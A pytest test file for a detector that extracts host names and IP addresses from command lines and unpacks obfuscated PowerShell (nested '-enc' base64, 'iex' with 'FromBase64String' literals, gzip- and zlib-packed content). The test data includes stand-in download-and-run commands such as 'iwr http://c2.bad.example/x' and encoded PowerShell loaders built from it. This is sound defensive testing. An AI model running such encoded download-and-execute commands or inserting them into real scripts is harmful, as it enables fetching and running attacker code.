"""Which names and addresses stand in a command line, and what only looks like one."""

import base64
import gzip
import zlib

import pytest

from orchestrator.checks.mentions import addresses_in, decoded, names_in


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("http://C2.bad.example/gate?x=1", ("c2.bad.example",)),
        ("-u c2.bad.example:8080;d.bad.example.", ("c2.bad.example", "d.bad.example")),
        (r"\\\\files.bad.example\\share\\run.cmd", ("files.bad.example",)),
        (r"C:\\Program Files\\bad.example\\app", ()),
        ("user@bad.example", ("bad.example",)),
        ("http://xn--e1afmkfd.example/", ("xn--e1afmkfd.example",)),
        ("http=bad.example;https=other.test", ("bad.example", "other.test")),
        ("notbad", ()),
        ("1.2.3.4", ()),
    ],
)
def test_names(text: str, names: tuple[str, ...]):
    assert names_in(text.replace("\\\\", "\\")) == names


@pytest.mark.parametrize(
    ("text", "addresses"),
    [
        ("203.0.113.9:3128", ("203.0.113.9",)),
        ("http://203.0.113.9/x 203.0.113.9", ("203.0.113.9",)),
        ("[2001:db8:bad::17]:443", ("2001:db8:bad::17",)),
        ("[2001:DB8:0bad:0:0::17]", ("2001:db8:bad::17",)),
        ("app 1.2.3.4.5", ()),
        ("v203.0.113.9", ()),
        ("999.1.1.1", ()),
        (r"C:\\EdgeUpdate\\1.3.195.43\\x.exe", ()),
        ("12:30:45", ()),
    ],
)
def test_addresses(text: str, addresses: tuple[str, ...]):
    assert addresses_in(text.replace("\\\\", "\\")) == addresses


@pytest.mark.parametrize("part", ["a.", "a-", "::", "1."])
def test_a_hostile_text_costs_little(part: str):
    """What grows by the square would take hours here; the pace of the machine decides nothing."""
    text = part * 400_000
    names_in(text)
    addresses_in(text)


def packed(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def test_commands_one_inside_another_are_undone_three_deep():
    texts = ["iwr http://bad.example/x"]
    for _ in range(4):
        texts.append(f"powershell -enc {packed(texts[-1])}")
    assert list(decoded(texts[4])) == texts[3:0:-1]
    assert list(decoded(texts[3])) == texts[2::-1]


@pytest.mark.parametrize(
    "text",
    [
        "tool -export QUJDREVGR0hJSktMTU5PUA==",  # no beginning of the option
        "powershell -enc QUJDREVGR0hJSktMTU5PUAA",  # an odd number of bytes
        "powershell -enc QUJDREVGR0hJSktMTU5PU",  # no base64
    ],
)
def test_what_powershell_would_not_undo_is_left(text: str):
    assert list(decoded(text)) == []


def literal(content: bytes) -> str:
    return f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64(content)}')))"


def b64(content: bytes) -> str:
    return base64.b64encode(content).decode()


SAID = "iwr http://c2.bad.example/x"


@pytest.mark.parametrize(
    "content",
    [
        SAID.encode(),
        SAID.encode("utf-16-le"),
        gzip.compress(SAID.encode(), mtime=0),
        zlib.compress(SAID.encode()),
        zlib.compress(SAID.encode(), wbits=-15),
        b"\x00\xfc\x90" + SAID.encode() + b"\x00",
    ],
    ids=["utf-8", "utf-16", "gzip", "zlib", "deflate", "among other bytes"],
)
def test_a_literal_of_base64_is_undone_however_it_was_written(content: bytes):
    (text,) = decoded(literal(content))
    assert names_in(text) == ("c2.bad.example",)


def test_a_literal_may_stand_in_other_quotes_and_letters():
    assert list(decoded(f'FROMBASE64STRING( "{b64(SAID.encode())}" )')) == [SAID]


def test_literals_stand_inside_encoded_commands():
    texts = list(decoded(f"powershell -enc {packed(literal(SAID.encode()))}"))
    assert texts[-1] == SAID


def test_a_bomb_costs_no_more_than_is_looked_at():
    bomb = zlib.compress(b"a" * 20_000_000, 9)
    (text,) = decoded(literal(bomb))
    assert len(text) <= 32_768


@pytest.mark.parametrize("text", ["FromBase64String($x)", "FromBase64String('====')", literal(b"")])
def test_what_is_no_literal_is_left(text: str):
    assert list(decoded(text)) == []


def test_a_literal_that_is_no_base64_is_left():
    assert list(decoded("FromBase64String('QUJDREVGR')")) == []


def test_a_packed_literal_that_ends_too_early_is_taken_as_it_is():
    (text,) = decoded(literal(zlib.compress(SAID.encode() * 20)[:-14]))
    assert names_in(text) == ()
